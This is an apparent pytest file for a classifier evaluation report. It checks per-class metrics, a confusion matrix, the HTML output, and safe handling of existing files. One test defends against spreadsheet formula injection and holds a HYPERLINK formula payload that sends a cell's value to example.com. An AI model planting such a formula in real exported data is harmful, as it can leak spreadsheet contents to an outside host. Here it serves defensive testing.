"""evaluate.py --report: per_class.csv and the confusion matrix on a hand-computed example, read
back with the csv module; the PNGs with matplotlib's reader; report.html with html.parser."""

import csv
import json
from html.parser import HTMLParser

import matplotlib.image
import pytest

from predict.evaluate import main

RUN_FILE = """\
r1;a;0.7;1
r1;b;0.2;2
r2;b;0.6;1
r2;a;0.3;2
r3;b;0.9;1
r3;a;0.05;2
r4;a;0.5;1
r4;c;0.4;2
"""
TRUTH = "r1;a;\nr2;a;\nr3;b;\nr4;c;b\nr5;c;\n"  # r5 is missing from the run file
# top-1: r1 a, r2 b, r3 b, r4 a, r5 nothing. AP of a: r1 (+) .7, r4 .5, r2 (+) .3 -> (1 + 2/3)/2;
# of c: r4 (+) .4, then r5 (+) tied at 0 with the rest -> .5 * 1 + .5 * 2/5 (scikit-learn)
EXPECTED = [
    ["class", "ap", "precision", "recall", "f1", "support"],
    ["a", "0.8333", "0.5000", "0.5000", "0.5000", "2"],
    ["b", "1.0000", "0.5000", "1.0000", "0.6667", "1"],
    ["c", "0.7000", "", "0.0000", "0.0000", "2"],
    ["d", "", "", "", "", "0"],
]


class PageReader(HTMLParser):
    """Images and table rows (lists of cell texts) of an HTML page."""

    def __init__(self):
        super().__init__()
        self.images, self.tables, self._cell = [], [], None

    def handle_starttag(self, tag, attrs):
        if tag == "img":
            self.images.append(dict(attrs)["src"])
        elif tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.tables[-1][-1].append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


@pytest.fixture
def report(tmp_path):
    (tmp_path / "run.csv").write_text(RUN_FILE)
    (tmp_path / "truth.csv").write_text(TRUTH)
    (tmp_path / "classes.json").write_text(json.dumps({"classes": ["a", "b", "c", "d"]}))
    main(["--run-file", str(tmp_path / "run.csv"), "--truth", str(tmp_path / "truth.csv"),
          "--classes", str(tmp_path / "classes.json"),
          "--report", str(tmp_path / "report")])  # fmt: skip
    return tmp_path / "report"


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_per_class_csv_at_the_top1_decision(report):
    assert read_csv(report / "per_class.csv") == EXPECTED


def test_confusion_matrix_counts_recordings_and_missing_ones(report):
    assert read_csv(report / "confusion_matrix.csv") == [
        ["true \\ top-1", "a", "b", "c", "d", "(none)"],
        ["a", "1", "1", "0", "0", "0"],
        ["b", "0", "1", "0", "0", "0"],
        ["c", "1", "0", "0", "0", "1"],
        ["d", "0", "0", "0", "0", "0"],
    ]


def test_report_html_shows_the_tables_and_the_plots(report):
    page = PageReader()
    page.feed((report / "report.html").read_text(encoding="utf-8"))
    assert page.images == ["confusion_matrix.png", "pr_curves.png"]
    for image in page.images:
        pixels = matplotlib.image.imread(report / image)
        assert pixels.ndim == 3 and min(pixels.shape[:2]) > 100
    summary, per_class, confusion = page.tables
    assert dict(summary[1:])["MAP (foreground)"] == "0.6000"  # (1 + 1/2 + 1 + 1/2 + 0) / 5
    assert per_class == EXPECTED
    assert confusion == read_csv(report / "confusion_matrix.csv")


def test_report_that_cannot_be_written_is_a_clear_error(tmp_path, capsys):
    (tmp_path / "run.csv").write_text(RUN_FILE)
    (tmp_path / "truth.csv").write_text(TRUTH)
    (tmp_path / "taken").write_text("a file, not a folder")
    with pytest.raises(SystemExit) as exit_info:
        main(["--run-file", str(tmp_path / "run.csv"), "--truth", str(tmp_path / "truth.csv"),
              "--report", str(tmp_path / "taken")])  # fmt: skip
    assert exit_info.value.code == 2
    captured = capsys.readouterr()  # refused before scoring: no scores printed either
    assert f"error: --report {tmp_path / 'taken'} exists and is not a folder" in captured.err
    assert "MAP" not in captured.out


def test_a_class_named_like_a_formula_is_text_in_the_csvs_as_is_on_the_page(tmp_path):
    """The CSVs open in a spreadsheet, where a cell beginning with = would run."""
    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
    (tmp_path / "run.csv").write_text(f"r1;{formula};0.9;1\nr1;b;0.1;2\n")
    (tmp_path / "truth.csv").write_text(f"r1;{formula};\n")
    main(["--run-file", str(tmp_path / "run.csv"), "--truth", str(tmp_path / "truth.csv"),
          "--report", str(tmp_path / "report")])  # fmt: skip
    per_class = read_csv(tmp_path / "report" / "per_class.csv")
    confusion = read_csv(tmp_path / "report" / "confusion_matrix.csv")
    assert [row[0] for row in per_class[1:]] == [f"'{formula}", "b"]
    assert confusion[0][1] == f"'{formula}" and confusion[1][0] == f"'{formula}"
    page = PageReader()
    page.feed((tmp_path / "report" / "report.html").read_text(encoding="utf-8"))
    assert formula in [row[0] for row in page.tables[1]]


def test_a_picture_of_the_users_at_a_report_plots_name_is_left_alone(tmp_path, capsys):
    (tmp_path / "run.csv").write_text(RUN_FILE)
    (tmp_path / "truth.csv").write_text(TRUTH)
    argv = ["--run-file", str(tmp_path / "run.csv"), "--truth", str(tmp_path / "truth.csv"),
            "--report", str(tmp_path / "report")]  # fmt: skip
    main(argv)
    left = tmp_path / "report" / ".pr_curves.png.4194305-0a1b2c3d.partial"  # a kill's
    left.write_bytes(b"")
    main(argv)  # its own plots: replaced
    assert not left.exists()
    picture = tmp_path / "report" / "pr_curves.png"
    # an editor's; matplotlib's own, even beside the report's page (as a report before the
    # marks wrote it, or as the user's script does)
    for software in ("an editor", None):
        metadata = {"Software": software} if software else None
        matplotlib.image.imsave(picture, [[0.0, 1.0]], metadata=metadata)
        before = picture.read_bytes()
        with pytest.raises(SystemExit):
            main(argv)
        error = capsys.readouterr().err
        assert "pr_curves.png exists and is not a PNG image a report wrote" in error
        assert picture.read_bytes() == before
